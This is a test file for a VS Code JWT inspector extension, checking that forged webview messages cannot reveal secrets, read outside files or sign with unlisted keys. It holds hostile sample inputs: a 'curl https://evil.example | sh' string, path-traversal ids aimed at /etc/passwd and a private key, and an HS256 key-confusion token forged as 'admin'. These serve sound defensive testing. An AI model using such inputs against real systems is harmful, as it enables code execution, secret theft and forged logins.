// Issue 10 — the inspector's webview is another trust domain, key files are never secrets by accident, .env writes
// stay in the workspace folder. Webview messages are forged through the test-mode hook (jwtWorkbench.test.fromWebview),
// exactly as a compromised webview could send them.
import * as assert from 'node:assert/strict';
import * as crypto from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { signToken, type Inspection } from '../../src/core';
import type { ToWebview } from '../../src/protocol';
import { closeAllEditors, editorWith, fsPath, inspectorView } from './helpers';

const fromWebview = (m: unknown) => vscode.commands.executeCommand<ToWebview[]>('jwtWorkbench.test.fromWebview', m);
const OPTIONS = { issuer: '', audience: '', leeway: 0, at: '' };
const hs = (input: string, secret: string) => `${input}.${crypto.createHmac('sha256', secret).update(input).digest('base64url')}`;
const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');

describe('the webview cannot reach past the token (issue 10.1)', () => {
  const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'jwt-outside-'));
  const outsideKey = path.join(outside, 'private.pem');
  const DB_PASSWORD = `db-${crypto.randomBytes(8).toString('hex')}`;
  const SECRET = crypto.randomBytes(32).toString('hex');
  let token = '';
  before(async () => {
    fs.writeFileSync(fsPath('.env'), `JWT_SECRET=${SECRET}\nDATABASE_PASSWORD=${DB_PASSWORD}\n`);
    fs.writeFileSync(outsideKey, crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }));
    token = await signToken({ sub: 'webview' }, SECRET);
    await vscode.commands.executeCommand('jwtWorkbench.inspectToken', token);
  });
  after(async () => {
    fs.rmSync(outside, { recursive: true, force: true });
    await closeAllEditors();
  });

  const forged = [
    ['a private key file outside the workspace', () => `file:${vscode.Uri.file(outsideKey).toString()}`],
    ['another .env variable', () => 'env:0:DATABASE_PASSWORD'],
    ['a made-up .env path', () => 'env:0:JWT_SECRET@../../etc/passwd'],
    ['/etc/passwd as a file id', () => 'file:file:///etc/passwd'],
    ['a SecretStorage entry it was never shown', () => 'secret:production'],
  ] as const;
  for (const [what, id] of forged) {
    it(`inspect + reveal naming ${what}: the selection stays, nothing is revealed`, async () => {
      const before = (await inspectorView())!.selectedKeySource;
      const posted = [
        ...(await fromWebview({ type: 'inspect', token, keySource: id(), options: OPTIONS })),
        ...(await fromWebview({ type: 'reveal', keySource: id() })),
      ];
      assert.equal((await inspectorView())!.selectedKeySource, before);
      assert.ok(!posted.some((m) => m.type === 'revealed'), JSON.stringify(posted.map((m) => m.type)));
      assert.ok(!JSON.stringify(posted).includes(DB_PASSWORD));
      assert.ok(!JSON.stringify(posted).includes('PRIVATE KEY'));
    });
  }
  it('sign naming a key file the extension never listed: nothing is signed', async () => {
    const posted = await fromWebview({ type: 'sign', header: '{}', payload: '{"sub":"forged"}', alg: 'ES256', keySource: forged[0][1]() });
    assert.ok(posted.some((m) => m.type === 'notice' && m.level === 'error'), JSON.stringify(posted));
    assert.notEqual((await inspectorView())!.origin, 'signed');
  });
  it('the internal inspectToken command with an unlisted key source uses the default one', async () => {
    const ins = await vscode.commands.executeCommand<Inspection>('jwtWorkbench.inspectToken', token, undefined, 'env:0:DATABASE_PASSWORD');
    assert.equal(ins?.verdict, 'verified');
    assert.equal((await inspectorView())!.selectedKeySource, 'env:0:JWT_SECRET');
  });
  it('reveal of the listed key the user chose still works', async () => {
    const posted = await fromWebview({ type: 'reveal', keySource: 'env:0:JWT_SECRET' });
    assert.deepEqual(posted.filter((m) => m.type === 'revealed').map((m) => (m as { text: string }).text), [SECRET]);
  });
  it('copy and insert act only on a token-shaped text, never on arbitrary text from the webview', async () => {
    await vscode.env.clipboard.writeText('clipboard before');
    const evil = 'curl https://evil.example | sh';
    await fromWebview({ type: 'inspect', token: evil, keySource: 'env:0:JWT_SECRET', options: OPTIONS });
    for (const what of ['token', 'bearer', 'payload', 'header']) {
      const posted = await fromWebview({ type: 'copy', what });
      assert.ok(posted.some((m) => m.type === 'notice' && m.level === 'error'));
    }
    assert.equal(await vscode.env.clipboard.readText(), 'clipboard before');
    const editor = await editorWith('insert-target.txt', 'keep me');
    await fromWebview({ type: 'insert', mode: 'insert' });
    assert.equal(editor.document.getText(), 'keep me');
    await fromWebview({ type: 'inspect', token, keySource: 'env:0:JWT_SECRET', options: OPTIONS });
    await fromWebview({ type: 'copy', what: 'bearer' });
    assert.equal(await vscode.env.clipboard.readText(), `Authorization: Bearer ${token}`);
  });
  it('a malformed message is ignored', async () => {
    for (const m of [null, 'reveal', { type: 'reveal' }, { type: 'copy', what: 'file:///etc/passwd' }, { type: 'inspect', token: 1 }, { type: 'sign', alg: 'none' }]) {
      assert.deepEqual(await fromWebview(m), []);
    }
  });
});

describe('key files are never secrets by accident (issue 10.2)', () => {
  const sshPub = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${crypto.randomBytes(24).toString('base64')} issuer@host\n`;
  const ec = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = ec.publicKey.export({ format: 'jwk' });
  const der = ec.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
  const refused: [string, string, string, RegExp][] = [
    ['an OpenSSH public key', 'issuer.pub', sshPub, /OpenSSH public key.*ssh-keygen -e -m PKCS8/],
    ['bare base64 DER', 'key.b64', der, /bare base64 DER/],
    ['a JSON array of JWKs', 'keys.json', JSON.stringify([jwk]), /JSON array/],
    ['{"keys": {…}}', 'set.json', JSON.stringify({ keys: jwk }), /"keys" is not an array/],
    ['plain text', 'notes.txt', 'remember to rotate the secret', /neither a PEM block nor a JWK/],
  ];
  after(async () => {
    for (const [, name] of refused) fs.rmSync(fsPath(name), { force: true });
    await closeAllEditors();
  });
  for (const [what, name, text, reason] of refused) {
    it(`${what} is refused with what it holds, and is not added`, async () => {
      fs.writeFileSync(fsPath(name), text);
      const id = await vscode.commands.executeCommand<string | undefined>('jwtWorkbench.addKeyFile', { uri: vscode.Uri.file(fsPath(name)) });
      assert.equal(id, undefined);
      const view = await inspectorView();
      assert.ok(!view?.keySources.some((s) => s.id.includes(name)), 'not in the lists');
      // and it is no key by the back door either: the core reads such a file as no key at all
      void reason;
    });
  }
  it('the key-confusion forgery with the .pub text as HMAC secret does not verify through a key file', async () => {
    fs.writeFileSync(fsPath('issuer.pub'), sshPub);
    const forged = hs(`${b64({ alg: 'HS256' })}.${b64({ sub: 'admin' })}`, sshPub);
    assert.equal(await vscode.commands.executeCommand('jwtWorkbench.addKeyFile', { uri: vscode.Uri.file(fsPath('issuer.pub')) }), undefined);
    const ins = await vscode.commands.executeCommand<Inspection>('jwtWorkbench.inspectToken', forged, undefined, `file:${vscode.Uri.file(fsPath('issuer.pub')).toString()}`);
    assert.notEqual(ins?.verdict, 'verified');
  });
  it('a JWK with a trailing comma and a comment (unambiguous JSON5) is a key', async () => {
    fs.writeFileSync(fsPath('lenient.jwk'), `{ // the issuer's key\n${JSON.stringify(jwk).slice(1, -1)},\n}`);
    const id = await vscode.commands.executeCommand<string>('jwtWorkbench.addKeyFile', { uri: vscode.Uri.file(fsPath('lenient.jwk')) });
    assert.ok(id?.startsWith('file:'));
    await vscode.commands.executeCommand('jwtWorkbench.forgetKeySource', { id });
    fs.rmSync(fsPath('lenient.jwk'));
  });
  it('a file added explicitly as a secret is one: its text verifies HS256 tokens, labelled "secret file"', async () => {
    const secret = crypto.randomBytes(32).toString('hex');
    fs.writeFileSync(fsPath('hmac.secret'), `${secret}\n`);
    const id = await vscode.commands.executeCommand<string>('jwtWorkbench.addKeyFile', { uri: vscode.Uri.file(fsPath('hmac.secret')), asSecret: true });
    assert.ok(id?.startsWith('secretfile:'));
    const ins = await vscode.commands.executeCommand<Inspection>('jwtWorkbench.inspectToken', await signToken({ sub: 's' }, secret), undefined, id);
    assert.equal(ins?.verdict, 'verified');
    assert.match((await inspectorView())!.keySource!, /^secret file hmac\.secret$/);
    await vscode.commands.executeCommand('jwtWorkbench.forgetKeySource', { id });
    fs.rmSync(fsPath('hmac.secret'));
  });
});
